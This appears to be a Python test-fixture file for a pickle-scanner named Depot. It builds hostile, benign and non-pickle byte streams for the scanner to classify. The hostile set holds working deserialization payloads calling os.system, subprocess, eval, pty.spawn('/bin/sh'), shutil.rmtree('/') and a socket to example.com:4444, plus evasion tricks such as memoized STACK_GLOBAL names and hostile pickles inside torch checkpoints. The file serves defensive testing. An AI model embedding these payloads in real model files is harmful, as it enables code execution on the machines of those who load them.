"""Streams to attack the pickle scanner with: hostile pickles, benign ones, and bytes that are none.

Every pickle here is written by `pickle.dumps` (which only writes: the hostile callables are
named, never called) or by hand with the opcode helpers of `test_pickles`; nothing here is ever
loaded. The data that is not a pickle is made from fixed seeds, so every run sees the same bytes.
"""

from __future__ import annotations

import builtins
import collections
import ctypes
import datetime
import decimal
import functools
import gzip
import importlib
import io
import os
import pickle
import pty
import random
import runpy
import shutil
import socket
import struct
import subprocess
import tarfile
import uuid
import webbrowser
import zipfile
from argparse import Namespace
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.unit.validator_service.test_pickles import (
    PROTOCOLS,
    STACK_TRICKS,
    Reduces,
    call_with_string,
    global_,
    legacy_torch_file,
    op,
    proto,
    text,
    torch_state_dict_pickle,
    well_formed,
)

TORCH_FILES = Path(__file__).parent / "torch_files"
COMMAND = "echo pwned"


def reduces_to(function: Callable[..., Any], *arguments: object, protocol: int) -> bytes:
    """A pickle that would call `function(*arguments)` when loaded."""
    return pickle.dumps(Reduces(function, arguments), protocol=protocol)


def string0(value: str) -> bytes:
    """A protocol 0 STRING pushing `value`."""
    return op("STRING", repr(value).encode() + b"\n")


def zip_member(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def torch_zip(data_pkl: bytes) -> bytes:
    """A zip laid out as torch.save writes it (stored members under one folder, a raw storage)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, content in [
            ("archive/data.pkl", data_pkl),
            ("archive/.format_version", b"1"),
            ("archive/byteorder", b"little"),
            ("archive/data/0", struct.pack("<4f", 1.0, 2.0, 3.0, 4.0)),
            ("archive/version", b"3\n"),
        ]:
            archive.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), content)
    return buffer.getvalue()


# --- hostile -------------------------------------------------------------------------------------


def exploit(callable_: bytes, argument: str = COMMAND) -> bytes:
    """Call what `callable_` pushes with one string, and stop (protocol 0 opcodes)."""
    return callable_ + op("MARK") + string0(argument) + op("TUPLE") + op("REDUCE") + op("STOP")


def _hostile() -> dict[str, bytes]:
    os_system = reduces_to(os.system, COMMAND, protocol=2)
    samples = {"protocol 0 os.system by hand": b"cos\nsystem\n(S'echo pwned'\ntR."}
    for protocol in PROTOCOLS:
        samples[f"os.system (posix.system), protocol {protocol}"] = reduces_to(os.system, COMMAND, protocol=protocol)
    samples["nt.system by hand"] = well_formed(exploit(global_("nt", "system")))
    samples["subprocess.Popen, protocol 2"] = reduces_to(subprocess.Popen, ["sh", "-c", COMMAND], protocol=2)
    samples["subprocess.check_output, protocol 4"] = reduces_to(subprocess.check_output, ["id"], protocol=4)
    samples["builtins.eval, protocol 0"] = reduces_to(builtins.eval, "__import__('os').system('id')", protocol=0)
    samples["builtins.exec, protocol 3"] = reduces_to(builtins.exec, "import os; os.system('id')", protocol=3)
    samples["builtins.__import__, protocol 5"] = reduces_to(builtins.__import__, "os", protocol=5)
    samples["Python 2 __builtin__.eval by hand"] = well_formed(proto(2) + exploit(global_("__builtin__", "eval"), "1"))
    # getattr(__import__("os"), "system")("echo pwned"), as exploit kits write it.
    imported = global_("__builtin__", "__import__") + op("MARK") + string0("os") + op("TUPLE") + op("REDUCE")
    getattr_ = (
        global_("__builtin__", "getattr") + op("MARK") + imported + string0("system") + op("TUPLE") + op("REDUCE")
    )
    samples["getattr of __import__ by hand"] = well_formed(proto(2) + exploit(getattr_))
    samples["runpy.run_path, protocol 4"] = reduces_to(runpy.run_path, "payload.py", protocol=4)
    samples["importlib.import_module, protocol 3"] = reduces_to(importlib.import_module, "os", protocol=3)
    samples["pty.spawn, protocol 2"] = reduces_to(pty.spawn, "/bin/sh", protocol=2)
    samples["webbrowser.open, protocol 1"] = reduces_to(webbrowser.open, "https://example.com/x", protocol=1)
    samples["shutil.rmtree, protocol 5"] = reduces_to(shutil.rmtree, "/", protocol=5)
    address = ("example.com", 4444)
    samples["socket.create_connection, protocol 4"] = reduces_to(socket.create_connection, address, protocol=4)
    samples["ctypes.CDLL, protocol 2"] = reduces_to(ctypes.CDLL, "libc.so.6", protocol=2)
    samples["pickle.loads of a hostile pickle, protocol 4"] = reduces_to(pickle.loads, os_system, protocol=4)
    # attrgetter("system")(argparse._os)("echo pwned"): os reached as an attribute of argparse.
    getter = global_("operator", "attrgetter") + op("MARK") + string0("system") + op("TUPLE") + op("REDUCE")
    system = getter + op("MARK") + global_("argparse", "_os") + op("TUPLE") + op("REDUCE")
    samples["operator.attrgetter of argparse._os by hand"] = well_formed(proto(2) + exploit(system))
    for protocol in (2, 4):
        partial = functools.partial(os.system, COMMAND)
        samples[f"functools.partial of os.system, protocol {protocol}"] = reduces_to(partial, protocol=protocol)
    state = {"state_dict": collections.OrderedDict(weight=[0.5, -0.5]), "hooks": [Reduces(os.system, (COMMAND,))]}
    samples["inside a state dict, protocol 2"] = pickle.dumps(state, protocol=2)
    nested = [[1, {"x": (2.0, Reduces(builtins.exec, ("pass",)))}], "tail"]
    samples["deep in lists and dicts, protocol 5"] = pickle.dumps(nested, protocol=5)
    twice = [Reduces(os.system, ("a",)), Reduces(os.system, ("b",))]
    samples["the same callable twice (a memoized global), protocol 4"] = pickle.dumps(twice, protocol=4)

    # STACK_GLOBAL with its names from the memo and the stack.
    for trick, pushes in STACK_TRICKS.items():
        samples[f"STACK_GLOBAL through {trick}"] = proto(4) + pushes + op("STACK_GLOBAL") + call_with_string(COMMAND)
    # The names are data first (dict keys), memoized, and fetched back for the import.
    samples["STACK_GLOBAL names memoized as dict keys"] = well_formed(
        proto(4) + op("EMPTY_DICT") + op("MEMOIZE") + op("MARK")
        + text("os") + op("MEMOIZE") + op("BININT1", b"\x01") + text("system") + op("MEMOIZE") + op("BININT1", b"\x02")
        + op("SETITEMS") + op("POP") + op("BINGET", b"\x01") + op("BINGET", b"\x02") + op("STACK_GLOBAL")
        + call_with_string(COMMAND)
    )  # fmt: skip
    # Key 1 is a copy of key 0 (BINGET then BINPUT): it holds "os", not the number 0.
    samples["STACK_GLOBAL module memoized from a memo copy"] = well_formed(
        proto(4) + text("os") + op("BINPUT", b"\x00") + op("BINGET", b"\x00") + op("BINPUT", b"\x01") + op("POP")
        + op("POP") + text("system") + op("BINPUT", b"\x02") + op("POP") + op("BINGET", b"\x01") + op("BINGET", b"\x02")
        + op("STACK_GLOBAL") + call_with_string(COMMAND)
    )  # fmt: skip
    # Protocol 4 resolves a dotted name attribute by attribute: argparse imports os as _os.
    samples["dotted name reaching os.system through argparse._os"] = well_formed(
        proto(4) + text("argparse") + text("_os.system") + op("STACK_GLOBAL") + call_with_string(COMMAND)
    )

    # Every opcode that calls.
    samples["INST"] = well_formed(op("MARK") + string0(COMMAND) + op("INST", b"os\nsystem\n") + op("STOP"))
    samples["OBJ"] = well_formed(op("MARK") + global_("os", "system") + string0(COMMAND) + op("OBJ") + op("STOP"))
    samples["NEWOBJ"] = well_formed(
        proto(2) + global_("subprocess", "Popen") + string0(COMMAND) + op("TUPLE1") + op("NEWOBJ") + op("STOP")
    )
    samples["NEWOBJ_EX"] = well_formed(
        proto(4) + text("subprocess") + text("Popen") + op("STACK_GLOBAL")
        + text(COMMAND) + op("TUPLE1") + op("EMPTY_DICT") + op("NEWOBJ_EX") + op("STOP")
    )  # fmt: skip
    # The first BUILD sets an instance attribute __setstate__ = os.system, which the second calls.
    samples["BUILD calling a __setstate__ it set"] = well_formed(
        proto(2) + global_("argparse", "Namespace") + op("EMPTY_TUPLE") + op("REDUCE")
        + op("NONE") + op("MARK") + string0("__setstate__") + global_("os", "system") + op("DICT") + op("TUPLE2")
        + op("BUILD") + string0(COMMAND) + op("BUILD") + op("STOP")
    )  # fmt: skip

    # Broken or followed by more: the loader has called os.system before it gets there.
    samples["truncated after the call (no STOP)"] = os_system[:-1]
    samples["cut right after the import"] = b"cos\nsystem\n"
    samples["followed by junk"] = reduces_to(os.system, COMMAND, protocol=4) + b"\x00\xff junk"
    samples["legacy torch file, hostile second pickle"] = legacy_torch_file(torch_state_dict_pickle(), second=os_system)
    # The loader unpickles each pickle with a fresh memo: keys 0 and 1 of the second are "os" and
    # "system", whatever the first pickle memoized.
    fresh_memo = (
        proto(4) + text("os") + op("MEMOIZE") + op("POP") + text("system") + op("MEMOIZE") + op("POP")
        + op("BINGET", b"\x00") + op("BINGET", b"\x01") + op("STACK_GLOBAL") + call_with_string(COMMAND)
    )  # fmt: skip
    samples["legacy torch file, second pickle's memo keys restart"] = legacy_torch_file(
        torch_state_dict_pickle(), second=well_formed(fresh_memo)
    )
    first = pickle.dumps(["collections", "OrderedDict"], protocol=4)  # memo keys 0 to 2 taken here
    samples["two pickles, the second's memo keys restart"] = first + fresh_memo
    samples["PyTorch zip, hostile archive/data.pkl"] = zip_member(torch_zip(os_system), "archive/data.pkl")
    return samples


HOSTILE: dict[str, bytes] = _hostile()
"""Pickles that run something when loaded: Depot rejects every one."""

# --- benign --------------------------------------------------------------------------------------

PLAIN_DATA = {
    "config": {"lr": 0.001, "betas": (0.9, 0.999), "layers": [64, 64, 10], "name": "mlp", "tied": True, "seed": None},
    "vocabulary": {"<pad>": 0, "<unk>": 1, "the": 2, "wörld": 3},
    "bytes and sets": [b"\x00\x01", bytearray(b"xy"), {1, 2}, frozenset({"a"}), 2**80, -1.5, complex(0, 1)],
    "OrderedDict of lists": collections.OrderedDict([("weight", [[0.1, 0.2], [0.3, 0.4]]), ("bias", [0.0, 0.0])]),
    "values of the standard library": [
        datetime.datetime(2024, 5, 1, 12, 30, tzinfo=datetime.UTC),
        datetime.timedelta(hours=3),
        decimal.Decimal("0.1"),
        uuid.UUID(int=7),
        Namespace(epochs=3, lr=0.1, arch="resnet18"),
        collections.Counter("hello"),
        collections.defaultdict(list, {"a": [1]}),
    ],
}


def numpy_array_pickle() -> bytes:
    """What NumPy writes (protocol 2) for np.arange(3, dtype=np.float32): reconstruct calls by name."""
    data = struct.pack("<3f", 0.0, 1.0, 2.0)
    dtype = (
        global_("numpy", "dtype") + op("SHORT_BINUNICODE", b"\x02f4") + op("NEWFALSE") + op("NEWTRUE") + op("TUPLE3")
        + op("REDUCE") + op("MARK") + op("BININT1", b"\x03") + op("SHORT_BINUNICODE", b"\x01<") + op("NONE") * 3
        + op("BININT", b"\xff\xff\xff\xff") * 2 + op("BININT1", b"\x00") + op("TUPLE") + op("BUILD")
    )  # fmt: skip
    return well_formed(
        proto(2) + global_("numpy.core.multiarray", "_reconstruct") + global_("numpy", "ndarray")
        + op("BININT1", b"\x00") + op("TUPLE1") + op("SHORT_BINBYTES", b"\x01b") + op("TUPLE3") + op("REDUCE")
        + op("MARK") + op("BININT1", b"\x01") + op("BININT1", b"\x03") + op("TUPLE1") + dtype + op("NEWFALSE")
        + op("SHORT_BINBYTES", bytes([len(data)]) + data) + op("TUPLE") + op("BUILD") + op("STOP")
    )  # fmt: skip


def _benign() -> dict[str, bytes]:
    samples = {f"{name}, protocol {p}": pickle.dumps(value, p) for name, value in PLAIN_DATA.items() for p in PROTOCOLS}
    samples["state dict by hand (torch, protocol 2)"] = torch_state_dict_pickle()
    samples["legacy torch file"] = legacy_torch_file(torch_state_dict_pickle())
    samples["numpy array by hand"] = numpy_array_pickle()
    samples["numpy.pkl written by NumPy"] = (TORCH_FILES / "numpy.pkl").read_bytes()
    samples["legacy.pt written by torch"] = (TORCH_FILES / "legacy.pt").read_bytes()
    for name in ("state_dict", "checkpoint", "dtypes"):
        samples[f"{name}.pt data.pkl written by torch"] = zip_member(
            (TORCH_FILES / f"{name}.pt").read_bytes(), f"{name}/data.pkl"
        )
    return samples


BENIGN: dict[str, bytes] = _benign()
"""Pickles that only build data: Depot passes every one."""

# --- not pickles ---------------------------------------------------------------------------------

RANDOM_SIZES = (1, 2, 3, 5, 8, 16, 64, 255, 1000, 4096, 65_537, 1_000_000)


def random_bytes(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)


def float32_array(seed: int, count: int) -> bytes:
    generator = random.Random(seed)
    return struct.pack(f"<{count}f", *(generator.gauss(0.0, 0.02) for _ in range(count)))


def _tar_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(content), 1_700_000_000
            archive.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


def _not_pickles() -> dict[str, bytes]:
    words = ["[PAD]", "[UNK]", "[CLS]", "[SEP]", "[MASK]", "the", "of", "and", "to", "in", "was", "he", "##s", "##ing"]
    return {
        "ones": b"1" * 1000,
        "requirements.txt": b"click\ncolorama\nnumpy\n",
        "pinned requirements.txt": b"torch==2.3.0\ntransformers>=4.40\nsafetensors\n",
        "Python source": b"import os\nimport sys\n\nprint(os.getcwd(), sys.argv)\n",
        "CSV": b"epoch,loss,accuracy\n1,0.693,0.51\n2,0.412,0.83\n",
        "JSON": b'{"architectures": ["BertModel"], "hidden_size": 768, "vocab_size": 30522}',
        "vocab.txt": "\n".join(words).encode() + b"\n",
        "vocab.txt read as GLOBAL": b"cat\ndog\nfish\nbird\n",  # imports "at.dog": no such module
        "merges.txt": b"#version: 0.2\n\xc4\xa0 t\n\xc4\xa0 a\nh e\n",
        "README.md": "# Model card\n\nWeights for a small MLP. Licence: MIT — use freely.\n".encode(),
        **{f"float32 array of {count}": float32_array(count, count) for count in (1, 3, 100, 10_000)},
        "float32 zeros": bytes(4 * 256),
        "gzip of a hostile pickle": gzip.compress(HOSTILE["protocol 0 os.system by hand"], mtime=0),
        "zip of a torch checkpoint": torch_zip(torch_state_dict_pickle()),
        "tar of text files": _tar_of({"config.json": b"{}", "vocab.txt": b"a\nb\n"}),
    }


NOT_PICKLES: dict[str, bytes] = _not_pickles()
"""Bytes that a loader would refuse before running anything: not pickles, whatever their name."""

# --- evasions ------------------------------------------------------------------------------------

EVASIONS: dict[str, bytes] = {
    "unittest.__main__ named with a non-identifier, then junk": b"cunittest.__main__\nx y\n\xff",
    "unittest.__main__ through STACK_GLOBAL, then junk": proto(4) + text("unittest.__main__") + text("x y")
    + op("STACK_GLOBAL") + b"\xff",
    "venv.__main__ named with a non-identifier, then junk": b"cvenv.__main__\nx y\n\xff",
    "lib2to3.__main__ named with a non-identifier, then junk": b"clib2to3.__main__\n-\n\xff",
    "test.__main__, then junk": b"ctest.__main__\nmain\n\xff",
    # The loader imports os (loaded already: nothing runs here), then fails on the name: the same import.
    "os named with a non-identifier, then junk": b"cos\nsys tem\n\xff",
}  # fmt: skip
"""Streams that run code when loaded before they break, found by a review of the "is it a pickle" rule.

A loader imports the module of a `GLOBAL` or `STACK_GLOBAL` before it looks the name up
(`Unpickler.find_class`), so importing a module whose top level does something runs it even
when the name is no identifier and the stream breaks right after: `unittest.__main__` runs test
discovery in the working directory (importing every test module there) and exits, `venv.__main__`
and `lib2to3.__main__` run their command line on the loader's `sys.argv` and exit,
`test.__main__` runs CPython's test suite (`test` ships with CPython but is not in
`sys.stdlib_module_names`: `KNOWN_MODULES` adds it). Depot counts the module's import alone.
"""
